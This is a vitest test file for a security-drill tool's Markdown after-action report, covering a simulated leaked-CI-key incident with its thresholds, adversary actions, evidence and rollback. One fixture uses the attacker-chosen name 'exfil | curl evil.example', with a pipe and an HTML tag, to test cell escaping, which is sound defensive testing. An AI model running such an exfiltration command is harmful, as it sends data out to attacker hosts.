import { describe, expect, it } from 'vitest';
import { renderScorecardMarkdown } from '../../../src/drills/report.ts';
import { renderGateWaits, renderKeyTimes } from '../../../src/timeline/render.ts';
import { at } from '../../timeline/build.ts';
import { failingCard, passingCard } from './fixture.ts';

function section(md: string, heading: string): string {
  const from = md.indexOf(`\n${heading}\n`);
  expect(from, `${heading} is in the report`).toBeGreaterThanOrEqual(0);
  const next = md.indexOf('\n## ', from + heading.length + 1);
  return md.slice(from, next === -1 ? undefined : next);
}

/** The cells of a Markdown table row, split on unescaped pipes. */
function cells(row: string): string[] {
  return row.replace(/^\| | \|$/g, '').split(/(?<!\\)\| /).map((c) => c.trim());
}

describe('the drill after-action report (Markdown)', () => {
  it('a passing run opens with its PASS line', () => {
    expect(renderScorecardMarkdown(passingCard()).split('\n')[0]).toBe('**PASS** — drill leaked-ci-key: all 4 thresholds met; 0 expectations missed.');
  });

  it('a failing run opens with its FAIL line, naming each missed threshold against its figure', () => {
    const first = renderScorecardMarkdown(failingCard()).split('\n')[0]!;
    expect(first).toMatch(/^\*\*FAIL\*\* — drill leaked-ci-key: 3 of 4 thresholds missed/);
    // `<` is written `&lt;`, as every cell of the report, so a viewer shows it and renders no HTML.
    expect(first).toContain('timeToFirstContainment: 4m05s, needs &lt;= 3m');
    expect(first).toContain('adversaryActionsAfterAlert: 2, needs &lt;= 1');
    expect(first).toContain('1 expectation missed');
  });

  it('is marked as a drill, and names the scenario, its title, runbook and ATT&CK techniques', () => {
    const md = renderScorecardMarkdown(passingCard());
    expect(md).toContain('**DRILL — simulated, nothing real was touched.**');
    expect(md).toContain('# Drill after-action report: Leaked CI deploy key, attacker minting keys');
    expect(md).toContain('- **Scenario:** leaked-ci-key (scenarios/leaked-ci-key.yaml)');
    expect(md).toContain('- **Runbook:** credential-compromise');
    expect(md).toContain('- **ATT&CK:** T1552.001, T1078.004, T1098.001');
    expect(md).toContain('- **Covered:** 2h00m of virtual time (horizon 2h00m) in 2s of wall time');
  });

  it('tabulates each threshold: figure, threshold, value (times as durations), met', () => {
    const thresholds = section(renderScorecardMarkdown(failingCard()), '## Thresholds');
    expect(thresholds).toContain('| timeToFirstContainment | &lt;= 3m | 4m05s | no |');
    expect(thresholds).toContain('| adversaryActionsAfterAlert | &lt;= 1 | 2 | no |');
    expect(thresholds).toContain('| realCalls | 0 | 0 | yes |');
  });

  it('lists the expectations met and missed, with what was found', () => {
    const expectations = section(renderScorecardMarkdown(failingCard()), '## Expectations');
    expect(expectations).toContain('3 met, 1 missed.');
    expect(expectations).toContain('| deactivate-access-key done within 10m of the first alert | met | done at +4m5s |');
    expect(expectations).toContain(`| the adversary stopped by +5m | MISSED | 1 succeeded after it, first: creates a backdoor access key at ${at(1500)} |`);
  });

  it('shows the key times and gates with the post-incident report’s own renderer', () => {
    const card = passingCard();
    const md = renderScorecardMarkdown(card);
    expect(section(md, '## Key times')).toContain(renderKeyTimes(card.metrics).join('\n'));
    expect(section(md, '## Gates')).toContain(renderGateWaits(card.metrics).join('\n'));
    expect(section(md, '## Key times')).toContain(`| First contained | ${at(245)} | +4m05s |`);
    expect(section(md, '## Gates')).toContain(`| delete-login-profile | approve | cli:alice, cli:bob | ${at(247)} | 30m00s | 1 | no |`);
  });

  it('lists the adversary’s actions: time, name, succeeded, after the alert, and how many count against the run', () => {
    const adversary = section(renderScorecardMarkdown(failingCard()), '## Adversary actions');
    expect(adversary).toContain('2 actions succeeded after the first alert');
    expect(adversary).toContain(`| ${at(1500)} | creates a backdoor access key | iam:create-access-key | yes | yes | created AKIADRILLBACKDOOR002 |`);
    expect(adversary).toContain(`| ${at(420)} | calls AWS with the leaked key | iam:use-access-key | no | yes | InvalidClientTokenId: the key is inactive |`);
  });

  it('reports the evidence: how many items, their names, and whether they were sealed before the first change', () => {
    const evidence = section(renderScorecardMarkdown(passingCard()), '## Evidence');
    expect(evidence).toContain(`2 items sealed; sealed before the first change: yes (first change: ${at(245)}).`);
    expect(evidence).toContain('- cloudtrail.json');
  });

  it('reports a rollback’s result against the pre-incident world, with what it left behind', () => {
    expect(section(renderScorecardMarkdown(passingCard()), '## Rollback')).toContain('No rollback in this drill.');
    const rollback = section(renderScorecardMarkdown(failingCard()), '## Rollback');
    expect(rollback).toContain(`Requested ${at(5400)}; finished: yes; world restored: no.`);
    expect(rollback).toContain('- access-key:AKIADRILLBACKDOOR002: Active, was Inactive (iam-user:ci-deployer)');
    expect(rollback).toContain('Left on purpose (cannot or may not be undone):\n\n- iam-user:ci-deployer: login profile deleted');
  });

  it('reports real calls with their targets, faults injected and notices marked as a drill', () => {
    const clean = renderScorecardMarkdown(passingCard());
    expect(section(clean, '## Real systems')).toContain('Real calls: 0 — nothing beyond loopback was contacted.');
    expect(section(clean, '## Faults injected')).toContain('3 faults injected.');
    expect(section(clean, '## Notices')).toContain('6 notices sent to the simulated Slack; 6 marked as a drill.');

    const leaky = renderScorecardMarkdown({ ...passingCard(), realCalls: 1, realCallTargets: ['iam.amazonaws.com:443'], notices: { sent: 6, markedDrill: 5 } });
    expect(section(leaky, '## Real systems')).toContain('**Real calls: 1**');
    expect(section(leaky, '## Real systems')).toContain('- iam.amazonaws.com:443');
    expect(section(leaky, '## Notices')).toContain('**1 not marked**');
  });

  it('keeps an attacker-chosen name with a pipe or a line break in its one table cell', () => {
    const card = failingCard();
    card.adversary[0] = { ...card.adversary[0]!, name: 'exfil | curl evil.example', detail: 'line one\nline two | <b>' };
    const row = renderScorecardMarkdown(card).split('\n').find((l) => l.includes('exfil'))!;
    expect(cells(row)).toEqual([at(120), 'exfil \\| curl evil.example', 'iam:use-access-key', 'yes', 'yes', 'line one line two \\| &lt;b>']);
  });
});
